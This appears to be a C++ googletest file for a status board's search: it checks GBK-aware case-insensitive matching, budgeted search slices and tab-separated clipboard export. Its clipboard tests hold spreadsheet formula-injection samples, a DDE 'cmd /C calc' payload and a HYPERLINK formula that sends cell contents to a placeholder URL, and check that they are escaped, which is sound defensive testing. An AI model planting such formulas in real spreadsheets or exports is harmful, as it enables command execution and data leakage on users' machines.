#include "board/BoardSearch.h"

#include "board/Board.h"
#include "board/TableText.h"
#include "platform/GbkText.h"

#include <gtest/gtest.h>

#include <random>

namespace {

TEST(BoardSearchTest, NumbersAndTextsInAnyCaseAndGbkWhole)
{
    TagMonitor board(40);
    SetCell(board, "Idle", 3, 2, 0, 15);
    SetCell(board, "TALKING", 7, 2, 0, 15);
    SetCell(board, "talk.vox", 12, 1, 0, 15);
    SetCell(board, "\xCD\xA8\xBB\xB0\xD6\xD0", 20, 2, 0, 15); // 通话中
    // A GBK text whose second byte is 'A' (0x41): the query "A" must not find it through half a
    // character. 丄 is 0x81 0x41.
    SetCell(board, "\x81\x41", 25, 4, 0, 15);
    SetCell(board, "queue A", 30, 7, 0, 15);
    const struct {
        const char16_t* query;
        std::vector<int> lines;
    } cases[] = {
        {u"", {}},
        {u"talk", {7, 12}},
        {u"Talking", {7}},
        {u"idle", {3}},
        {u"通话", {20}},
        {u"丄", {25}},
        {u"a", {7, 12, 30}}, // "TALKING", "talk.vox", "queue A"; never the 0x41 of 丄
        {u"39", {39}},
        {u"3", {3, 13, 23, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39}},
        {u"nothing here", {}},
    };
    BoardLock lock(board.Lock);
    for (const auto& c : cases) {
        SCOPED_TRACE(testing::PrintToString(std::u16string(c.query).size()));
        EXPECT_EQ(FindLines(board, c.query), c.lines);
    }
}

// What the find promises: a match in the text as the GBK decoder reads it, ASCII case ignored.
bool DecodedContains(const std::string& gbk, std::u16string query)
{
    std::u16string text = GbkToUtf16(gbk);
    for (std::u16string* s : {&text, &query}) {
        for (char16_t& c : *s)
            c = c >= u'A' && c <= u'Z' ? char16_t(c - u'A' + u'a') : c;
    }
    return !query.empty() && text.find(query) != std::u16string::npos;
}

TEST(BoardSearchTest, MatchesOnTheBytesAsInTheDecodedText)
{
    const struct {
        std::string gbk;
        std::u16string query;
        bool found;
    } cases[] = {
        {"\xCD\xA8\xBB\xB0\xD6\xD0", u"话中", true},
        {"\xCD\xA8\xBB\xB0\xD6\xD0", u"通话中了", false},
        {"x\xCD\xA8", u"\xA8\xBB", false}, // never across two characters' halves
        {"\x81\x41", u"A", false},         // 丄: its trail byte is no letter
        {"\xA1\x41", u"a", true},          // a pair the decoder cannot map: U+FFFD, 'A'
        {"\xA1\x41",
         u"\xFFFD"
         u"A",
         true},
        {"\xA1\xA1\xA1\x41", u"\x3000\xFFFD", true}, // 　 then the unmapped pair
        {"\x81", u"\xFFFD", true},                   // a lead byte at the end
        {"\x81\x30",
         u"\xFFFD"
         u"0",
         true},                    // a lead byte before a non-trail
        {"\x80", u"\x20AC", true}, // the euro byte
        {"\xFF"
         "abc",
         u"\xFFFD"
         u"ABC",
         true},
        {"aaaaaaaaab", u"aaaab", true}, // a partial match that restarts
        {"abababac", u"ababac", true},
        {"abababab", u"ababac", false},
        {"", u"a", false},
        {"abc", u"", false},
    };
    for (const auto& c : cases) {
        EXPECT_EQ(TGbkMatcher(c.query).In(c.gbk), c.found) << testing::PrintToString(c.gbk);
        EXPECT_EQ(DecodedContains(c.gbk, c.query), c.found)
            << "the reference agrees: " << testing::PrintToString(c.gbk);
    }
}

TEST(BoardSearchTest, AgreesWithTheDecoderOnAnyBytes)
{
    // Random texts of every byte but 0 (bytes the server may send), queries cut from what the decoder
    // makes of them (so many are found) and from other texts (so many are not).
    std::mt19937 rng(2026);
    const auto randomText = [&](size_t size) {
        std::string text;
        for (size_t i = 0; i < size; ++i) {
            const unsigned pick = rng() % 4;
            // Plenty of lead bytes and ASCII letters, so pairs, broken pairs and case all occur.
            text += char(pick == 0 ? 0x81 + rng() % 0x7E : (pick == 1 ? 'A' + rng() % 6 : 1 + rng() % 0xFF));
        }
        return text;
    };
    int found = 0;
    for (int round = 0; round < 3000; ++round) {
        const std::string text = randomText(1 + rng() % 40);
        const std::u16string source = GbkToUtf16(round % 2 ? text : randomText(20));
        const size_t from = rng() % source.size();
        const std::u16string query = source.substr(from, 1 + rng() % 4);
        const bool expected = DecodedContains(text, query);
        found += expected ? 1 : 0;
        ASSERT_EQ(TGbkMatcher(query).In(text), expected)
            << testing::PrintToString(text) << " " << testing::PrintToString(std::string(query.begin(), query.end()));
    }
    EXPECT_GT(found, 1000);
    EXPECT_LT(found, 2900);
}

TEST(BoardSearchTest, SlicesFindWhatOneCallFinds)
{
    TagMonitor board(300);
    for (int i = 0; i < 300; ++i) {
        const std::string text = i % 7 == 0 ? "Talking " + std::string(size_t(i) * 10, 'x') : "Idle";
        SetCell(board, text.c_str(), i, 2, 0, 15);
    }
    BoardLock lock(board.Lock);
    const std::vector<int> whole = FindLines(board, u"talk");
    ASSERT_EQ(whole.size(), 43u);
    for (size_t budget : {size_t(0), size_t(1), size_t(500), size_t(4096), kFindSliceBytes}) {
        TBoardFind find(u"TALK");
        int slices = 0;
        for (int before = 0; !find.Step(board, budget); before = find.NextLine()) {
            ++slices;
            ASSERT_GT(find.NextLine(), before) << "every slice moves on";
            ASSERT_FALSE(find.Done());
        }
        EXPECT_TRUE(find.Done());
        EXPECT_EQ(find.Matches(), whole) << budget;
        EXPECT_EQ(slices > 0, budget < 100000) << budget;
        EXPECT_TRUE(find.Step(board, budget)) << "a finished search stays finished";
        EXPECT_EQ(find.Matches(), whole);
    }
}

TEST(BoardSearchTest, ASliceReadsAboutItsBudgetAndANewBoardStartsAgain)
{
    // Every cell as long as a frame can carry: a line is 8 x 29,988 bytes.
    const std::string longText(29988, 'x');
    TagMonitor board(64);
    for (int i = 0; i < 64; ++i) {
        for (int k = 1; k < kColsPerLine; ++k)
            SetCell(board, longText.c_str(), i, k, 0, 15);
    }
    BoardLock lock(board.Lock);
    TBoardFind find(u"not there");
    EXPECT_FALSE(find.Step(board, kFindSliceBytes));
    const size_t lineBytes = 7 * longText.size();
    EXPECT_EQ(size_t(find.NextLine()), (kFindSliceBytes + lineBytes - 1) / lineBytes)
        << "lines are read whole until the budget is passed";

    TagMonitor other(3);
    SetCell(other, "not there", 2, 4, 0, 15);
    BoardLock otherLock(other.Lock);
    EXPECT_TRUE(find.Step(other)) << "another line count: the search starts again on it";
    EXPECT_EQ(find.Matches(), std::vector<int>{2});

    TBoardFind nothing(u"");
    EXPECT_TRUE(nothing.Done());
    EXPECT_TRUE(nothing.Step(board));
    EXPECT_TRUE(nothing.Matches().empty());
}

TEST(BoardSearchTest, NextAndPreviousWrapRound)
{
    const std::vector<int> matches = {4, 9, 17};
    const struct {
        int from;
        bool backwards;
        int next;
    } cases[] = {
        {-1, false, 4}, {4, false, 9}, {5, false, 9}, {17, false, 4}, {30, false, 4},
        {-1, true, 17}, {4, true, 17}, {9, true, 4},  {10, true, 9},  {30, true, 17},
    };
    for (const auto& c : cases)
        EXPECT_EQ(NextMatch(matches, c.from, c.backwards), c.next) << c.from << (c.backwards ? " back" : "");
    EXPECT_EQ(NextMatch({}, 3, false), -1);
}

TEST(TableTextTest, RowsOfTabsAndNewlinesKeepTheirShape)
{
    EXPECT_EQ(TabSeparated({}), "");
    EXPECT_EQ(TabSeparated({{"a", "", "c"}, {"d", "e\tf", "g\r\nh"}}), "a\t\tc\nd\te f\tg  h\n");
    EXPECT_EQ(TabSeparated({{"通话中"}}), "通话中\n");
}

TEST(TableTextTest, PastedCellsNeverRunAsFormulas)
{
    const struct {
        std::string cell;
        std::string pasted;
    } cases[] = {
        {"=HYPERLINK(\"http://x\"&A1)", "'=HYPERLINK(\"http://x\"&A1)"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-5", "'-5"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"Idle", "Idle"},
        {"a=b", "a=b"},
        {"\tx", " x"},                          // a tab inside a cell is a blank, as before
        {"\x1B[31mred", "\xEF\xBF\xBD[31mred"}, // no control character reaches the clipboard
        {"\x7F=x", "\xEF\xBF\xBD=x"},
    };
    for (const auto& c : cases)
        EXPECT_EQ(TabSeparated({{"1", c.cell}}), "1\t" + c.pasted + "\n") << c.cell;
}

TEST(TableTextTest, ControlsBecomeTheReplacementCharacter)
{
    std::string all;
    for (int b = 1; b < 0x20; ++b)
        all += char(b);
    all += "\x7F\xE9\x80\x9A";
    std::string expected;
    for (int b = 1; b <= 0x20; ++b)
        expected += "\xEF\xBF\xBD";
    expected += "\xE9\x80\x9A";
    EXPECT_EQ(WithoutControls(all), expected);
    EXPECT_EQ(WithoutControls("plain text"), "plain text");
}

} // namespace
